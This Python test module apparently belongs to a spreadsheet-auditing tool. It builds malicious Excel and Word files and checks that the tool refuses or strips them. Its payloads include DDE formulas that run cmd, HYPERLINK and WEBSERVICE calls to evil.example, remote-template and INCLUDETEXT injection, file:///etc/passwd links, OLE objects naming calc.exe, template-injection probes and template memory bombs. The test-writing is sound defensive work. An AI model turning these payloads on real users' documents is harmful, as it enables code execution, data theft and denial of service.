        current = base
        for i, step in enumerate(makes):
            sub = d / f".step{i}"
            sub.mkdir()
            current = replace(current, path=step(current, sub))
        final = shutil.move(current.path, d / name)
        for i in range(len(makes)):
            shutil.rmtree(d / f".step{i}", ignore_errors=True)
        return Path(final)

    return make


def _formula_cells(base, d):
    """Formulas that would reach out if evaluated by a careless engine: DDE, HYPERLINK, WEBSERVICE."""
    url = f"http://127.0.0.1:{base.port}/"
    sheet = base.sheet("D.4")
    data = base.book["D.4"]
    cells = list(data.field_cells.values())[:3] if data.field_cells else ["B4", "B5", "B6"]
    formulas = [
        ("cmd|' /C calc'!A0", "cmd"),
        (f'HYPERLINK("{url}hyperlink","点击")', "点击"),
        (f'WEBSERVICE("{url}webservice")', ""),
    ]
    edits = {ref: Raw("", f"<f>{escape(f)}</f>") for ref, (f, _) in zip(cells, formulas)}
    return set_cells(base.path, d / "危险公式.xlsx", {sheet: edits})


def _external_link(base, d):
    """A formula reading another workbook through an external link that points at the secret file."""
    sheet = base.sheet("D.4")
    url = base.secret.resolve().as_uri()
    link = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>')
    link_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 f'Target="{escape(url)}" TargetMode="External"/></Relationships>')

    def ct(x):
        return x.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                      b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')

    def rels(x):
        return x.replace(b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')

    def wbxml(x):
        x = x.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdExt1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalReferences>')
        return x

    part = sheet_parts(base.path)[sheet]
    return rewrite(base.path, d / "外部链接.xlsx", {
        "[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels, "xl/workbook.xml": wbxml,
        part: lambda x: _set_cell(x, "F1", Raw("", "<f>[1]Sheet1!A1</f>")),
    }, add={"xl/externalLinks/externalLink1.xml": link.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})


def _deep_formula(base, d):
    sheet = base.sheet("D.4")
    depth = 2000
    return set_cells(base.path, d / "深层嵌套公式.xlsx", {sheet: {"F2": Raw("", "<f>" + "(" * depth + "1" + ")" * depth + "</f>")}})


TEMPLATE_TEXT = "<公司>&amp;\"引号\" {{ 7*7 }} {% for x in range(3) %}循环{% endfor %} {# 注释 #} ${x} <w:t>注入</w:t>"
CONTROL_TEXT = "清泉\x01啤酒\x07有限\x1b公司\x0b\x0c\x00"
LONG_TEXT = "很长的说明。" * 5461  # 32 766 characters: Excel's limit for one cell


def _hostile_text(base, d):
    """Text headed for the report: XML specials, template syntax, control characters, formula-looking text,
    one very long cell, right-to-left and zero-width characters."""
    cover = base.sheet("封面信息")
    _, company = base.field("company")
    _, address = base.field("address")
    _, contact = base.field("contact")
    sheet, option_name = base.cell("D.30", 0, "name")
    _, option_content = base.cell("D.30", 1, "name")
    return set_cells(base.path, d / "恶意文字.xlsx", {
        cover: {company: TEMPLATE_TEXT, address: CONTROL_TEXT, contact: "\u202e\u200b王\u200d五\ufeff"},
        sheet: {option_name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击领奖\")",
                option_content: "=cmd|' /C calc'!A0"},
    })


def _long_text(base, d):
    sheet, ref = base.cell("D.30", 0, "name")
    return set_cells(base.path, d / "超长文字.xlsx", {sheet: {ref: LONG_TEXT}})


def _template_in_sections(base, d):
    data = base.book["章节文字"]
    sheet = data.sheet
    ref = data.cells.at[0, "text"]
    return set_cells(base.path, d / "章节模板注入.xlsx", {sheet: {ref: "{{ 7*7 }}{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}"}})


def _company_bad(value, name):
    return _field("company", value, name)


def _duplicate_member(base: Base, d: Path) -> Path:
    """Two members named like the D.6 sheet: the second (read by a reader that keeps the last) says
    something else than the first."""
    import warnings

    p = d / "重复部件.xlsx"
    shutil.copy(base.path, p)
    part = sheet_parts(base.path)[base.sheet("D.6")]
    with zipfile.ZipFile(p) as z:
        xml = z.read(part)
    sheet, ref = base.cell("D.6", 0, "output_3")
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": what the case is about
        z.writestr(part, _set_cell(xml, ref, 999999999))
    return p


def _duplicate_member_case(base: Base, d: Path) -> Path:
    """Two members whose names differ only in case (OPC part names ignore case)."""
    p = d / "大小写重复部件.xlsx"
    part = sheet_parts(base.path)[base.sheet("D.6")]
    with zipfile.ZipFile(base.path) as z:
        xml = z.read(part)
    return rewrite(base.path, p, {}, add={part.upper().replace("XL/", "xl/"): xml})


def _lone_surrogate(field_or_cell: str):
    """A character reference to a lone surrogate (&#xD800;, which XML does not allow) in a cell: inline in
    the sheet, or in a shared string."""
    def make(base: Base, d: Path) -> Path:
        if field_or_cell == "cover":
            sheet, ref = base.field("company")
            return set_cells(base.path, d / "孤立代理项.xlsx", {sheet: {ref: Raw('t="inlineStr"', "<is><t>清泉&#xD800;啤酒有限公司</t></is>")}})
        sheet, ref = base.cell("D.6", 0, "product")
        return entity_in_shared_strings(base.path, d / "孤立代理项-共享字符串.xlsx", sheet, ref, b"", "#55296")

    return make


# -- report templates (cpxl export --template): made from the shipped audit template

NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
EVIL = "http://evil.example"


def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind if "://" in kind else REL + kind}" Target="{escape(target)}"{mode}/>'


def _add_rels(xml: bytes, *rels: str) -> bytes:
    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")


def _in_body(xml: bytes, inner: str) -> bytes:
    return xml.replace(b"<w:body>", b"<w:body>" + inner.encode(), 1)


def _content_types(xml: bytes, *items: str) -> bytes:
    return xml.replace(b"</Types>", "".join(items).encode() + b"</Types>")


def _shipped_template() -> Path:
    from cpxl.report.templates import template_path

    return template_path("audit")


def _template_text(tag: str, name: str):
    """The shipped template with one paragraph holding `tag` (template syntax) at the start of the body."""
    def make(base: Base, d: Path) -> Path:
        para = f'<w:p><w:r><w:t xml:space="preserve">{escape(tag)}</w:t></w:r></w:p>'
        return rewrite(_shipped_template(), d / name, {"word/document.xml": lambda x: _in_body(x, para)})

    return make


def _template_external(base: Base, d: Path) -> Path:
    """Remote-template injection and external links: w:attachedTemplate → an http .dotm, a hyperlink to
    file:///etc/passwd and one to a UNC share, an externally linked picture (DrawingML r:link and VML
    o:href), INCLUDETEXT / INCLUDEPICTURE / DDEAUTO fields; one ordinary https hyperlink that stays."""
    body = (
        '<w:p><w:hyperlink r:id="rIdEvilFile"><w:r><w:t>本地文件</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdEvilUnc"><w:r><w:t>共享</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdGood"><w:r><w:t>官网</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{EVIL}/include.docx&quot; "><w:r><w:t>包含的文字</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">PICTURE "{EVIL}/pixel.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图片</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:pict><v:shape id="_x0000_s9" style="width:10pt;height:10pt">'
        f'<v:imagedata r:id="rIdEvilImg" o:href="{EVIL}/vml.png"/></v:shape></w:pict></w:r></w:p>'
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="900" name="外链图片"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="900" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdEvilImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    settings_rels = RELS_HEAD + _rel("rIdEvilTpl", "attachedTemplate", f"{EVIL}/normal.dotm", True) + "</Relationships>"
    return rewrite(_shipped_template(), d / "远程模板.docx", {
        "word/document.xml": lambda x: _in_body(x, body),
        "word/_rels/document.xml.rels": lambda x: _add_rels(
            x, _rel("rIdEvilFile", "hyperlink", "file:///etc/passwd", True), _rel("rIdEvilUnc", "hyperlink", "\\\\evil.example\\share\\x", True),
            _rel("rIdGood", "hyperlink", "https://www.mee.gov.cn/", True), _rel("rIdEvilImg", "image", f"{EVIL}/pixel.png", True)),
        "word/settings.xml": lambda x: re.sub(rb"(<w:settings\b[^>]*>)", lambda m: m[1] + b'<w:attachedTemplate r:id="rIdEvilTpl"/>', x, count=1),
    }, add={"word/_rels/settings.xml.rels": settings_rels.encode()})


OLE_BIN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Package\x00calc.exe\x00cmd /c calc" + bytes(512)


def _template_objects(base: Base, d: Path) -> Path:
    """An OLE package object (ProgID "Package", word/embeddings/oleObject1.bin), an ActiveX control
    (word/activeX), a custom XML part bound to a content control."""
    body = (
        '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:40pt;height:40pt"><v:imagedata r:id="rIdOleIcon"/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1234" r:id="rIdOle"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:object><v:shape id="_x0000_i1026" style="width:40pt;height:20pt"/>'
        '<w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>'
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/x" w:storeItemID="{11111111-2222-3333-4444-555555555555}"/></w:sdtPr>'
        '<w:sdtContent><w:p><w:r><w:t>绑定</w:t></w:r></w:p></w:sdtContent></w:sdt>'
    )
    png = b"\x89PNG\r\n\x1a\n" + bytes(64)
    ax = ('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="' + NS_R + '" '
          'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>')
    ax_rels = RELS_HEAD + _rel("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin") + "</Relationships>"
    item = '<?xml version="1.0" encoding="UTF-8"?><root><x>绑定的数据</x></root>'
    props = ('<?xml version="1.0" encoding="UTF-8"?><ds:datastoreItem ds:itemID="{11111111-2222-3333-4444-555555555555}" '
             'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>')
    item_rels = RELS_HEAD + _rel("rId1", "customXmlProps", "itemProps9.xml") + "</Relationships>"
    return rewrite(_shipped_template(), d / "嵌入对象模板.docx", {
        "word/document.xml": lambda x: _in_body(x, body),
        "word/_rels/document.xml.rels": lambda x: _add_rels(
            x, _rel("rIdOle", "oleObject", "embeddings/oleObject1.bin"), _rel("rIdOleIcon", "image", "media/oleicon.png"),
            _rel("rIdAx", "control", "activeX/activeX1.xml"), _rel("rIdCx", "customXml", "../customXml/item9.xml")),
        "[Content_Types].xml": lambda x: _content_types(
            x, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
            '<Default Extension="png" ContentType="image/png"/>',
            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
            '<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>',
            '<Override PartName="/customXml/itemProps9.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>'),
    }, add={"word/embeddings/oleObject1.bin": OLE_BIN, "word/media/oleicon.png": png, "word/activeX/activeX1.xml": ax.encode(),
            "word/activeX/_rels/activeX1.xml.rels": ax_rels.encode(), "word/activeX/activeX1.bin": OLE_BIN,
            "customXml/item9.xml": item.encode(), "customXml/itemProps9.xml": props.encode(),
            "customXml/_rels/item9.xml.rels": item_rels.encode()})


def _template_vba(base: Base, d: Path) -> Path:
    """A VBA project in a file whose content types still say .docx."""
    return rewrite(_shipped_template(), d / "宏模板.docx", {
        "word/_rels/document.xml.rels": lambda x: _add_rels(x, _rel("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")),
    }, add={"word/vbaProject.bin": OLE_BIN})


def _template_docm(base: Base, d: Path) -> Path:
    """A macro-enabled document (.docm) renamed to .docx."""
    return rewrite(_shipped_template(), d / "改名的docm.docx", {
        "[Content_Types].xml": lambda x: x.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")})


def _template_duplicate(base: Base, d: Path) -> Path:
    """Two word/document.xml: readers disagree on which one counts."""
    p = d / "重复部件模板.docx"
    shutil.copy(_shipped_template(), p)
    with zipfile.ZipFile(p, "a") as z, __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")
        z.writestr("word/document.xml", b"<w:document/>")
    return p


TEMPLATE_BOMBS = {
    "strings": "{{ 'x' * 1000000000 }}{{ (('a'*100000)|list)|join('b'*100000) }}",
    "loops": "{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}{% endfor %}{% endfor %}",
    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
    "methods": "{{ 'x'.ljust(10**9) }}{{ '{:>999999999}'.format(1) }}{{ 'x'|center(10**9) }}",
    # past every check of the sandbox (each string and list within its limits): the address-space limit ends it
    "memory": "{% set ns = namespace(a=[]) %}{% for i in range(190000) %}{% set _ = ns.a.append(('x' * 1000000) ~ i) %}{% endfor %}{{ ns.a|length }}",
}


def build_cases() -> list[Case]:
    d6 = "D.6"
    cases = [
        # files that are not workbooks
        Case("text-file", _bytes("文本.xlsx", "企业名称,产量\n清泉啤酒,100\n".encode()), refused="不是 Excel .xlsx"),
        Case("csv-utf8-bom", _bytes("导出.xlsx", "\ufeff企业名称,产量\n清泉啤酒,100\n".encode()), refused="不是 Excel .xlsx"),
        Case("csv-gbk", _csv_gbk, refused="不是 Excel .xlsx"),
        Case("html-table", _html, refused="不是 Excel .xlsx"),
        Case("png", _bytes("图片.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(64)), refused="不是 Excel .xlsx"),
        Case("pdf", _bytes("扫描件.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"), refused="不是 Excel .xlsx"),
        Case("empty", _bytes("空.xlsx", b""), refused="文件为空"),
        Case("missing", lambda b, d: _missing(b, d), refused="找不到"),
        Case("directory", _directory, refused="文件夹"),
        Case("too-big", _too_big, refused="过大"),
        Case("truncated-half", _truncated(0.5, "截断一半.xlsx"), refused="损坏"),
        Case("truncated-tail", _tail_cut, refused="损坏"),
        Case("truncated-head", _truncated(0.02, "只有开头.xlsx"), refused="损坏"),
        # a reader verifies each part it inflates: the aggregation, which reads some sheets only, is refused
        # when one of those is damaged
        Case("corrupt-member", _corrupt_member, refused="损坏", commands=ALL - {"aggregate"}),
        Case("corrupt-aggregated-member", lambda b, d: _corrupt_member(b, d, "D.6", "损坏的D6.xlsx"), refused="损坏"),
        Case("zip-no-workbook", _zip_no_workbook, refused="没有 Excel 工作簿内容"),
        Case("docx-as-xlsx", _docx_as_xlsx, refused="没有 Excel 工作簿内容"),
        Case("zip-password", _zip_encrypted_member, refused="密码"),
        Case("zip-unknown-method", _zip_unknown_method, refused="压缩方式"),
        Case("zip-bomb", _bomb_real, refused="过大"),
        Case("zip-bomb-declared", _bomb_declared, refused="过大"),
        Case("zip-size-lie", _bomb_lying, refused="损坏"),
        Case("xls-real", _soffice("xls", "旧版.xlsx"), refused=".xls", needs="soffice"),
        Case("xls-header", _bytes("旧版头.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)), refused=".xls"),
        Case("xlsb", _xlsb, refused=".xlsb"),
        Case("ods-real", _soffice("ods", "开放格式.xlsx"), refused="OpenDocument", needs="soffice"),
        Case("ods-handmade", _ods_handmade, refused="OpenDocument"),
        Case("encrypted", _encrypted, refused="加密", needs="msoffcrypto"),
        Case("not-audit-workbook", _not_audit, refused="不是完整的", commands=ALL - {"calc"}),  # calc computes any workbook
        Case("half-sheets", _half_sheets, refused="缺少", commands=ALL - {"calc"}),
        Case("workbook-xml-broken", _bad_workbook_xml, refused="工作簿"),
        Case("workbook-xml-laughs", _workbook_xml_laughs, refused="工作簿"),
        Case("workbook-xml-xxe", _workbook_xml_xxe, refused="工作簿", secret=True),
        Case("xxe-package-parts", _chain(_content_types_xxe, _xxe_core, name="外部实体-包部件.xlsx"), secret=True,
             note="[Content_Types].xml and docProps/core.xml: not read by calamine, read by calc (lxml, openpyxl)"),
        # entities in cells
        Case("laughs-sheet", _laughs_sheet, at=lambda b: (b.sheet("D.6"), "A1"), rule="unreadable_sheet"),
        Case("laughs-shared-strings", _laughs_sst, refused="无法读取"),
        Case("xxe-sheet", _xxe_sheet, at=lambda b: (b.sheet("封面信息"), "A1"), rule="unreadable_sheet", secret=True),
        Case("xxe-shared-strings", _xxe_sst, refused="无法读取", secret=True),
        Case("xxe-network", _xxe_network, network=True),
        # sizes
        Case("far-cell", _far_cell("D.6", "远处单元格.xlsx"), at=lambda b: (b.sheet("D.6"), "XFD1048576"), rule="sheet_too_large",
             isolate=True),
        Case("far-cell-parameters", _far_cell("参数", "参数表远处单元格.xlsx"), at=lambda b: (b.sheet("参数"), "XFD1048576"),
             rule="sheet_too_large", isolate=True),
        Case("huge-merge", _huge_merge, isolate=True),
        Case("duplicate-cells", _duplicate_cells, at=lambda b: (b.sheet("D.6"), "A1"), rule="sheet_too_large", isolate=True,
             heavy=True, commands=frozenset({"check"})),
        Case("shared-strings-bomb", _shared_strings_bomb, refused="共享字符串表过大", isolate=True),
        Case("huge-dimension", _huge_dimension),
        Case("rows-100k", _many_rows(100_000, "十万行.xlsx"), heavy=True),
        Case("big-30mb", _big_file, heavy=True),
        # structure
        Case("sheet-missing", _sheet_missing, at=lambda b: (b.sheet("D.12"), ""), rule="missing_table"),
        Case("sheet-renamed", _sheet_renamed, at=lambda b: (b.sheet("D.6"), ""), rule="missing_table"),
        Case("sheets-reordered", _sheets_reordered),
        Case("sheet-odd-name", _sheet_odd_name),
        Case("extra-odd-sheet", _extra_odd_sheet),
        Case("header-renamed", _header_renamed, at=lambda b: (b.sheet("D.5"), "C3"), rule="header_changed"),
        Case("header-shifted", _header_shifted, at=lambda b: (b.sheet("D.6"), "B3"), rule="header_changed"),
        Case("merged-data-cells", _merged_data, at=_at(d6, 0, "output_2"), rule="required"),
        Case("vba-project", _vba, note="macros are never run; calc keeps the macro content type and wants .xlsm"),
        Case("path-traversal-members", _path_traversal),
        Case("shared-string-out-of-range", _bad_shared_index, at=lambda b: (b.sheet("D.6"), "A1"), rule="unreadable_sheet"),
        Case("number-cell-not-number-xml", _bad_number_xml, at=_at(d6, 0, "output_3"), rule="not_number"),
        Case("sheet-xml-broken", _bad_sheet_xml, at=lambda b: (b.sheet("D.6"), "A1"), rule="unreadable_sheet"),
        # values
        Case("text-in-number", _cells(d6, 0, "output_3", "约十万", "文字.xlsx"), at=_at(d6, 0, "output_3"), rule="not_number",
             words="约十万"),
        Case("fullwidth-digits", _cells(d6, 0, "output_3", "１０２３００", "全角数字.xlsx"), at=_at(d6, 0, "output_3")),
        Case("percent-string", _cells("D.10", 0, "total_3", "85%", "百分数.xlsx"), at=_at("D.10", 0, "total_3")),
        Case("thousands-separators", _cells(d6, 0, "output_3", "102,300.0", "千分位.xlsx"), at=_at(d6, 0, "output_3")),
        Case("div0-text", _cells(d6, 0, "output_3", "#DIV/0!", "除零文字.xlsx"), at=_at(d6, 0, "output_3"), rule="error_value",
             words="#DIV/0!"),
        Case("na-error-value", _cells(d6, 0, "output_3", Raw('t="e"', "<v>#N/A</v>"), "错误值.xlsx"), at=_at(d6, 0, "output_3"),
             rule="error_value"),
        Case("formula-error-cached", _cells(d6, 0, "output_3", Raw('t="e"', "<f>1/0</f><v>#DIV/0!</v>"), "公式错误值.xlsx"),
             at=_at(d6, 0, "output_3"), rule="error_value"),
        Case("inf-text", _cells(d6, 0, "output_3", "1e999", "无穷大.xlsx"), at=_at(d6, 0, "output_3"), rule="not_number"),
        Case("nan-text", _cells(d6, 0, "output_3", "NaN", "非数.xlsx"), at=_at(d6, 0, "output_3"), rule="not_number"),
        Case("date-in-number", _cells(d6, 0, "output_3", Raw('t="d"', "<v>2025-03-01T00:00:00</v>"), "日期当数值.xlsx"),
             at=_at(d6, 0, "output_3"), rule="not_number"),
        Case("bool-in-number", _cells(d6, 0, "output_3", True, "布尔值.xlsx"), at=_at(d6, 0, "output_3"), rule="required"),
        Case("date-as-text", _cells("D.3", 0, "start", "2023年3月1日", "日期文字.xlsx"), at=_at("D.3", 0, "start")),
        Case("date-text-invalid", _cells("D.3", 0, "start", "2023/13/45", "日期无效.xlsx"), at=_at("D.3", 0, "start"),
             rule="bad_value"),
        Case("negative-output", _cells(d6, 0, "output_3", -102300, "负产量.xlsx"), at=_at(d6, 0, "output_3"), rule="negative"),
        # The per-unit formulas leave a zero-output year blank (never #DIV/0!); check names D.6's cell.
        Case("zero-output", _cells(d6, 0, "output_3", 0, "零产量.xlsx"), at=_at(d6, 0, "output_3"), rule="zero_output"),
        Case("text-in-cover-year", _field("base_year", "二〇二五", "年份文字.xlsx"), at=_at_field("base_year"), rule="not_number"),
        Case("formula-hazards", _chain(_formula_cells, _external_link, _deep_formula, name="危险公式.xlsx"), network=True,
             secret=True, note="DDE, HYPERLINK, WEBSERVICE to a local port, an external link to a local file, 2000 nested parentheses"),
        Case("hostile-text", _hostile_text),
        Case("long-text", _long_text),
        Case("template-in-section-text", _template_in_sections),
        Case("company-formula", _company_bad("=HYPERLINK(\"http://evil.example/\",\"点击\")", "企业名公式.xlsx")),
        Case("company-dde", _company_bad("=cmd|' /C calc'!A0", "企业名DDE.xlsx")),
        Case("duplicate-member", _duplicate_member, refused="不止一次"),
        Case("duplicate-member-case", _duplicate_member_case, refused="不止一次"),
        Case("lone-surrogate-cover", _lone_surrogate("cover"), at=_at_field("company"), rule="bad_character",
             commands=ALL, note="calc refuses naming the cell (the evaluator parses the sheets as XML)"),
        Case("lone-surrogate-shared-string", _lone_surrogate("sst"), at=_at("D.6", 0, "product"), rule="bad_character"),
        # report templates (export --template): external links and embedded objects removed, resources bounded
        Case("template-external-links", _base_path, template=_template_external, commands=EXPORT, network=True,
             words="已删除", absent=("attachedTemplate", "evil.example", "file:///etc/passwd", "INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO",
                                  "o:href"),
             present=("https://www.mee.gov.cn/",), note="remote-template injection; https hyperlinks stay"),
        Case("template-embedded-objects", _base_path, template=_template_objects, commands=EXPORT, words="已删除",
             absent=("oleObject", "OLEObject", "embeddings/", "activeX", "w:control", "customXml/item9", "dataBinding", "calc.exe",
                     "绑定的数据")),
        Case("template-vba-in-docx", _base_path, template=_template_vba, commands=EXPORT, refused="宏"),
        Case("template-renamed-docm", _base_path, template=_template_docm, commands=EXPORT, refused="宏"),
        Case("template-duplicate-part", _base_path, template=_template_duplicate, commands=EXPORT, refused="不止一次"),
        Case("template-huge-strings", _base_path, template=_template_text(TEMPLATE_BOMBS["strings"], "字符串炸弹.docx"),
             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
        Case("template-nested-loops", _base_path, template=_template_text(TEMPLATE_BOMBS["loops"], "嵌套循环.docx"),
             commands=EXPORT, refused="循环", max_rss_mb=1024),
        Case("template-doubling", _base_path, template=_template_text(TEMPLATE_BOMBS["doubling"], "倍增.docx"),
             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
        Case("template-methods", _base_path, template=_template_text(TEMPLATE_BOMBS["methods"], "方法放大.docx"),
             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
        Case("template-memory", _base_path, template=_template_text(TEMPLATE_BOMBS["memory"], "内存耗尽.docx"),
             commands=EXPORT, refused="内存", env=(("CPXL_RENDER_MEMORY_MB", "600"),), max_rss_mb=1500,
             note="beyond the sandbox's checks: the render process's address-space limit (600 MB here) stops it"),
    ]
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), "duplicate case ids"
    # A refusal is quick for every command. A workbook that is read goes through check and aggregate;
    # through export where the report meets it, through calc where the evaluator meets something of its
    # own (a full evaluation or export takes seconds).
    out = []
    for c in cases:
        if not c.refused and c.commands == ALL and c.id not in EVERY_COMMAND:
            c = replace(c, commands=frozenset({"check", "aggregate"} | ({"export"} if c.id in EXPORT_TOO else set())
                                                | ({"calc"} if c.id in CALC_TOO else set())))
        out.append(c)
    return out


EXPORT = frozenset({"export"})
EVERY_COMMAND = {"lone-surrogate-cover"}  # read cases run through all four commands


def _base_path(base: Base, d: Path) -> Path:
    """The demo workbook itself (cases about the template, not the workbook)."""
    return base.path


CALC_TOO = {
    "xxe-package-parts", "xxe-sheet", "laughs-sheet", "far-cell-parameters", "huge-merge", "zero-output", "formula-hazards",
    "sheet-odd-name",
}
EXPORT_TOO = {
    "xxe-package-parts", "far-cell", "huge-merge", "sheet-missing", "sheet-odd-name", "extra-odd-sheet", "zero-output",
    "hostile-text", "long-text", "template-in-section-text", "company-dde",
}


CASES = build_cases()
